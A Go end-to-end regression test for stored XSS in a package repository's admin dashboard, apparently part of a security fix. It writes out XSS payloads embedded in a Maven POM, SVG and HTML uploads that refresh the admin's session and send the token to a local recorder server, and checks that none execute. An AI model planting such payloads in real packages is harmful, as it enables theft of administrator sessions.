package adminui_test

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"entrepot/deploy/testkit"
)

// TestE2EHostileContent is the regression test of stored XSS on the
// dashboard's origin (issue 16, finding 1): a member of an organization
// deploys a POM carrying an XHTML <h:script>, an SVG and an HTML file to
// Maven and uploads an HTML file to PyPI, the Maven mirror serves a
// hostile POM from its upstream, and headless Chromium, signed in to the
// dashboard as the admin, opens each of them on the dashboard's origin
// (web/e2e/hostile.e2e.mjs). No script may run: the page title stays,
// and the recorder, which every payload calls, hears nothing. A control
// page with the same payload, served without Entrepot's headers, must
// run, so that the test cannot pass by not looking.
func TestE2EHostileContent(t *testing.T) {
	b := requireBrowser(t)

	var (
		mu    sync.Mutex
		heard []string
	)
	var script string
	recorder := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/control" {
			w.Header().Set("Content-Type", "text/html")
			w.Write([]byte("<html><body><script>" + strings.ReplaceAll(script, "WHERE", "control") + "</script></body></html>"))
			return
		}
		if strings.HasPrefix(r.URL.Path, "/ran/") || strings.HasPrefix(r.URL.Path, "/token/") {
			mu.Lock()
			heard = append(heard, r.URL.RequestURI())
			mu.Unlock()
		}
	}))
	// The payload: mark the page, call the recorder, and try what the
	// probe's script did, refresh the admin's session through the cookie.
	// It is written before the recorder starts serving it.
	rec := "http://" + recorder.Listener.Addr().String()
	script = "document.title='pwned';window.__pwned=true;new Image().src='" + rec + "/ran/WHERE';" +
		"fetch('/api/v1/auth/refresh',{method:'POST',credentials:'include'}).then(function(r){return r.text()})" +
		".then(function(b){new Image().src='" + rec + "/token/WHERE?'+encodeURIComponent(b)})"
	recorder.Start()
	t.Cleanup(recorder.Close)
	payload := func(where string) string { return strings.ReplaceAll(script, "WHERE", where) }
	pom := func(group, where string) []byte {
		return []byte(`<?xml version="1.0"?>
<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:h="http://www.w3.org/1999/xhtml">
  <modelVersion>4.0.0</modelVersion>
  <groupId>` + group + `</groupId><artifactId>evil</artifactId><version>1.0</version>
  <h:script>` + payload(where) + `</h:script>
</project>`)
	}

	up := testkit.NewUpstream(t)
	up.Handle("/com/mirror/evil/1.0/evil-1.0.pom", pom("com.mirror", "mirrored-pom"), func(r *testkit.Route) { r.ContentType = "application/xhtml+xml" })
	s := testkit.Start(t, "UPSTREAM_MAVEN="+up.URL+"/")
	token := s.Token(t, s.OrgMember(t, "acme", "alice", "alice-password-1", "admin"), []string{"maven", "pypi"}, nil, nil)
	auth := testkit.Basic("alice", token)

	var urls []string
	put := func(path string, body []byte) {
		resp, b := testkit.Request(t, "PUT", s.URL+path, body, "Authorization", auth)
		switch {
		case resp.StatusCode == 201:
			urls = append(urls, path)
		case strings.HasSuffix(path, ".pom"):
			t.Fatalf("deploy %s: %d %s", path, resp.StatusCode, b)
		default: // refused at the door is safe too
			t.Logf("deploy %s refused: %d %s", path, resp.StatusCode, b)
		}
	}
	put("/maven2/com/acme/evil/1.0/evil-1.0.pom", pom("com.acme", "hosted-pom"))
	put("/maven2/com/acme/evil/1.0/evil-1.0.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="`+strings.ReplaceAll(payload("svg-onload"), "'", "&apos;")+`"><script>`+payload("svg")+`</script></svg>`))
	put("/maven2/com/acme/evil/1.0/evil-1.0.html", []byte(`<html><body><script>`+payload("maven-html")+`</script></body></html>`))
	urls = append(urls, "/maven2/com/mirror/evil/1.0/evil-1.0.pom", "/maven2/com/acme/evil/maven-metadata.xml")

	html := []byte(`<html><body><script>` + payload("pypi-html") + `</script></body></html>`)
	sum := sha256.Sum256(html)
	resp, msg := testkit.PostForm(t, s.URL+"/pypi/", map[string]string{
		":action": "file_upload", "protocol_version": "1", "metadata_version": "2.1",
		"name": "evil-html", "version": "1.0", "filetype": "sdist", "pyversion": "source",
		"sha256_digest": hex.EncodeToString(sum[:]),
	}, testkit.FormFile{Field: "content", Name: "evil_html-1.0.tar.gz", ContentType: "text/html", Content: html}, "Authorization", auth)
	if resp.StatusCode == 200 {
		urls = append(urls, "/pypi/files/evil-html/evil_html-1.0.tar.gz", "/pypi/simple/evil-html/")
	} else {
		t.Logf("PyPI refused the HTML upload: %d %s", resp.StatusCode, msg)
	}

	list, _ := json.Marshal(urls)
	out, err := b.run(3*time.Minute, "hostile.e2e.mjs", s, t.TempDir(),
		"URLS="+string(list),
		"CONTROL_URL="+recorder.URL+"/control",
		"HTTP_USER=alice",
		"HTTP_PASSWORD="+token,
	)
	t.Logf("hostile content e2e output:\n%s", out)
	if err != nil {
		t.Fatalf("hostile content e2e: %v\nserver log:\n%s", err, tail(s.Log(), 4000))
	}
	mu.Lock()
	defer mu.Unlock()
	for _, h := range heard {
		if !strings.HasSuffix(strings.SplitN(h, "?", 2)[0], "/control") {
			t.Errorf("a hostile script ran and called the recorder: %s", h)
		}
	}
	if len(heard) == 0 {
		t.Error("the control page's script did not call the recorder: the test would not see an execution")
	}
}
